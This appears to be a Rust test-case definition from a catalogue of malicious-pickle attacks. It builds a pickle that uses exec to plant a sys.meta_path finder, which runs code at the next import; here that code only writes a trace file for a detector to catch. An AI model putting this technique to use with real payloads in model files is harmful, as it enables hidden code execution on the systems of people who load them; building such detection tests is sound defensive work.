//! A finder in `sys.meta_path`: what the pickle leaves behind runs at the next import.

use super::*;
use crate::pickle::Op;

/// Every import asks the finder first.
pub const ATTACK: Attack = Attack {
    id: "import-hook",
    title: "code that waits for the next import",
    summary: "The pickle puts a finder in front of Python's own. The next import calls it, \
              here one that the same pickle asks for by naming a function of colorsys; in a \
              real program it would be one long after the load.",
    severity: Severity::High,
    targets: Targets::Python(&[Loader::Pickle, Loader::Joblib]),
    techniques: &[
        techniques::PYTHON,
        techniques::HIJACK_EXECUTION_FLOW,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 94],
    references: &[
        Reference {
            title: "Python documentation: sys.meta_path",
            url: "https://docs.python.org/3/library/sys.html#sys.meta_path",
        },
        Reference {
            title: "Python reference: the import system",
            url: "https://docs.python.org/3/reference/import.html",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Created("imported.txt")],
        policy: &[Evidence { kind: EventKind::FileWrite, text: "imported.txt" }],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let trace = payload::quoted(&scene.path("imported.txt"));
    // Names of the source are not seen inside its functions: exec runs it among a function's locals.
    let source = format!(
        r"
import sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        import sys
        sys.meta_path.remove(self)
        with open({trace}, 'w') as trace:
            trace.write(name)
sys.meta_path.insert(0, Finder())
"
    );
    payload::file(ATTACK.id, target, |assembler| {
        payload::call(assembler, "builtins", "exec", &source);
        assembler.global("colorsys", "rgb_to_hsv").op(Op::Tuple2);
    })
}
